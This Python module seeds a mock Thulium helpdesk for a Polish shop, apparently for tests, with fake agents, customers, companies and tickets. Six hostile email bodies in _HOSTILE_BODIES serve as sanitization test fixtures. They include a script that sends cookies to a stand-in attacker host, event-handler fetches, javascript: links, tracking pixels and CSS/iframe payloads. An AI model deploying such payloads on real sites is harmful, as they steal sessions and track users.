"""Thulium's part of the world: a Polish shop's helpdesk.

Figures the tests hold: 90 customers, 20 companies, 12 agents, 241 tickets (the original document's 1234 and
88001 to 88240). The 100 most recently changed tickets have exactly 20 distinct customers and none without
one; ticket 1234 is among them. Mails with markup that must never reach a browser: the first message of each
ticket in `HOSTILE_TICKETS`. The upload token of the original document exists and does not expire.
"""

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from gateway.sandbox.times import warsaw_minutes
from gateway.sandbox.world.people import firm, person
from gateway.sandbox.world.texts import subject, write

DOCUMENTED_TICKET = 1234
DOCUMENTED_TOKEN = "61527075253ba62a76ca5c"
DOCUMENTED_AGENTS = ("testowy.agent11", "testowy.agent17")
HOSTILE_TICKETS = (88235, 88236, 88237, 88238, 88239, 88240)
STATUSES = {
    "1": "Nowe",
    "2": "Oczekuje na klienta",
    "3": "W realizacji",
    "4": "Odłożone",
    "5": "Połączone",
    "6": "Zamknięte",
}
SUBSTATUSES = {"11": ("3", "u dostawcy"), "12": ("3", "w magazynie"), "13": ("6", "bez odpowiedzi")}
CATEGORIES = {"7": "Dostawa", "8": "Zwroty", "9": "Płatności"}
MAILBOXES = {"pomoc@sklep.example": 5, "zwroty@sklep.example": 6, "faktury@sklep.example": 7}
CUSTOM_FIELDS = ("gateway_ref", "Numer zamówienia", "Priorytet klienta")
NEW, WAITING, IN_PROGRESS, CLOSED = "1", "2", "3", "6"

_HOSTILE_BODIES = (
    "<p>Dzień dobry,</p><script>document.location='https://zlodziej.example/?c='+document.cookie</script><p>Anna</p>",
    "<p onclick=\"fetch('https://zlodziej.example')\">Proszę <b>kliknąć</b></p>",
    '<p>Gdzie paczka?</p><img src="https://sledzenie.example/p.gif?u=88237" width="1" height="1" alt="">',
    '<p><a href="javascript:alert(1)">Potwierdzenie zamówienia</a> i <a href="https://sklep.example">sklep</a></p>',
    '<style>body{display:none}</style><div style="background:url(https://zlodziej.example/x)">Reklamacja</div>',
    '<iframe src="https://zlodziej.example"></iframe><svg onload="alert(1)"></svg>Zwrot &lt;pilne&gt;',
)


@dataclass(slots=True)
class ThuliumMessage:
    id: int
    type: str
    created_at: datetime
    user_login: str = ""
    body: str = ""
    comment: str = ""
    system_comment: str = ""
    attachments: list[str] = field(default_factory=list)


@dataclass(slots=True)
class ThuliumTicket:
    """A ticket; `None` and `""` both leave as `""`. Messages stand in the order in which they came."""

    id: int
    sender: str
    subject: str
    queue_id: int
    queue_name: str
    created_at: datetime
    updated_at: datetime
    status_id: str = NEW
    substatus_id: str = ""
    category_id: str = ""
    customer_id: int | None = None
    user_login: str = ""
    source: str = "email"
    tags: list[str] = field(default_factory=list)
    cc: list[str] = field(default_factory=list)
    custom_fields: dict[str, Any] = field(default_factory=lambda: dict.fromkeys(CUSTOM_FIELDS))
    closed_at: datetime | None = None
    first_agent_responded_at: datetime | None = None
    messages: list[ThuliumMessage] = field(default_factory=list)


@dataclass(slots=True)
class ThuliumFile:
    """An upload; seeded ones never expire."""

    token: str
    filename: str
    content: bytes
    expires_at: datetime | None = None


@dataclass(slots=True)
class ThuliumWorld:
    """Everything Thulium stores; `agents`, `customers`, `companies` are wire objects by login or id."""

    agents: dict[str, dict[str, Any]] = field(default_factory=dict)
    customers: dict[int, dict[str, Any]] = field(default_factory=dict)
    companies: dict[int, dict[str, Any]] = field(default_factory=dict)
    tickets: dict[int, ThuliumTicket] = field(default_factory=dict)
    files: dict[str, ThuliumFile] = field(default_factory=dict)
    last_message_id: int = 9000

    def next_ticket_id(self) -> int:
        return max(self.tickets) + 1

    def next_message_id(self) -> int:
        self.last_message_id += 1
        return self.last_message_id


def seed(rng: random.Random, now: datetime) -> ThuliumWorld:
    """Thulium's data, all older than `now`."""
    world = ThuliumWorld()
    _seed_agents(world, rng)
    _seed_companies(world, rng)
    _seed_customers(world, rng, now)
    for token, name in ((DOCUMENTED_TOKEN, "faktura.pdf"), ("7f20c1d9a4e34b6688e10", "zdjęcie.jpg")):
        world.files[token] = ThuliumFile(token, name, b"sandbox")
    customers = list(world.customers)
    busy = customers[:20]
    for age in reversed(range(241)):  # the oldest first, so that message ids rise with time
        updated_at = now - timedelta(minutes=53 * age + rng.randint(5, 45), seconds=rng.randrange(60))
        if age < 100:
            customer_id: int | None = busy[age % 20]
        else:
            customer_id = rng.choice(customers) if rng.random() < 0.9 else None
        ticket_id = DOCUMENTED_TICKET if age == 40 else 88240 - age if age < 40 else 88241 - age
        _seed_ticket(world, rng, ticket_id, customer_id, updated_at)
    return world


def _seed_agents(world: ThuliumWorld, rng: random.Random) -> None:
    for number in range(12):
        someone = person(rng, "pl", number)
        login = DOCUMENTED_AGENTS[number] if number < 2 else f"agent.{someone.email.split('@')[0]}"
        world.agents[login] = {
            "agent_id": 14 + number,
            "login": login,
            "name": someone.first,
            "surname": someone.last,
            "email": f"{login}@sklep.example",
            "active": number != 11,
            "number": 7700 + number,
            "outbound_mode": "manual",
            "group_id": 1 + number % 3,
        }


def _seed_companies(world: ThuliumWorld, rng: random.Random) -> None:
    for number in range(20):
        someone = person(rng, "pl", 500 + number)
        company_id = 61 + number
        world.companies[company_id] = {
            "name": firm("pl", number),
            "company_id": company_id,
            "customer_id": 902 + number,
            "type": "shop" if number % 2 else "",
            "group": "retail" if number % 3 else "",
            "nip": f"{rng.randrange(10**10):010d}",
            "account_manager": "" if number % 4 else DOCUMENTED_AGENTS[0],
            "address": {
                "street": someone.street,
                "building": someone.house,
                "flat": None,
                "postcode": someone.postal_code,
                "city": someone.city,
                "post_office": None,
                "borough": None,
                "county": None,
                "voivodship": None,
                "country": "Poland",
            },
            "custom_fields": {"Segment": rng.choice(("A", "B", None))},
        }


def _seed_customers(world: ThuliumWorld, rng: random.Random, now: datetime) -> None:
    for number in range(90):
        someone = person(rng, "pl", number)
        customer_id = 40101 + number
        in_company = number % 4 == 1
        world.customers[customer_id] = {
            "customer_id": customer_id,
            "name": someone.first if number % 9 != 8 else "",
            "surname": someone.last,
            "phone_number": someone.phone if number % 5 != 4 else "",
            "phone_numbers": [someone.phone] if number % 5 != 4 else [],
            "email": someone.email if number % 17 != 16 else "",
            "company_id": 61 + number % 20 if in_company else "",
            "identifier": f"ERP-{5500 + number}" if number % 3 != 2 else "",
            "type": "shop" if in_company else "",
            "group": "",
            "company_flag": in_company if number % 4 else "",
            "account_manager": "",
            "updated_at": warsaw_minutes(now - timedelta(days=number + 1)) if number % 6 != 5 else "",
            "custom_fields": {"Segment": rng.choice(("A", "B", None))},
        }


def _seed_ticket(
    world: ThuliumWorld, rng: random.Random, ticket_id: int, customer_id: int | None, updated_at: datetime
) -> None:
    mailbox = rng.choice(list(MAILBOXES))
    turns = rng.randint(3, 9)
    at = updated_at - timedelta(minutes=37 * (turns - 1))
    ticket = ThuliumTicket(
        id=ticket_id,
        sender=(world.customers[customer_id]["email"] if customer_id else "")
        or f"gosc{ticket_id}@klient.example",
        subject=subject(rng, "shop"),
        queue_id=MAILBOXES[mailbox],
        queue_name=mailbox,
        created_at=at,
        updated_at=updated_at,
        customer_id=customer_id,
        category_id=rng.choice(("", *CATEGORIES)),
        user_login=rng.choice(("", *world.agents)),
        source=rng.choice(("email", "email", "www", "phone")),
        tags=["pilne"] if rng.random() < 0.1 else [],
    )
    if rng.random() < 0.5:
        ticket.custom_fields["Numer zamówienia"] = str(rng.randint(1000, 9999))
    agent = ticket.user_login or rng.choice(list(world.agents))
    for turn in range(turns):
        said = ThuliumMessage(world.next_message_id(), "MAIL", at + timedelta(minutes=37 * turn))
        match 0 if turn == 0 else rng.randrange(8):
            case 0 | 1 | 2:
                said.body = _mail(rng, ticket_id if turn == 0 else 0)
            case 3:
                said.type, said.user_login = "COMMENT", agent
                said.comment = "Klient dzwonił, czeka na odpowiedź."
            case _:
                said.type, said.user_login = "REPLY", agent
                said.body = f"<p>{write(rng, 'shop', 'pl', 'staff')}</p>"
                said.attachments = [DOCUMENTED_TOKEN] if rng.random() < 0.1 else []
                if ticket.first_agent_responded_at is None:
                    ticket.first_agent_responded_at = said.created_at
                    said.system_comment = "Changed status from [Nowe] to [W realizacji]"
        ticket.messages.append(said)
    _settle(ticket, rng)
    world.tickets[ticket_id] = ticket


def _mail(rng: random.Random, ticket_id: int) -> str:
    if ticket_id in HOSTILE_TICKETS:
        return _HOSTILE_BODIES[HOSTILE_TICKETS.index(ticket_id)]
    text = write(rng, "shop", "pl", "customer")
    return text if rng.random() < 0.3 else f"<p>{text}</p><br><p>Pozdrawiam</p>"


def _settle(ticket: ThuliumTicket, rng: random.Random) -> None:
    """A customer who wrote last makes the ticket new; otherwise it waits, is worked on, or is closed."""
    if ticket.messages[-1].type == "MAIL":
        return
    ticket.status_id = rng.choice((WAITING, IN_PROGRESS, "4", CLOSED, CLOSED))
    fitting = [substatus for substatus, (status, _) in SUBSTATUSES.items() if status == ticket.status_id]
    ticket.substatus_id = rng.choice(["", *fitting])
    if ticket.status_id == CLOSED:
        ticket.closed_at = ticket.updated_at
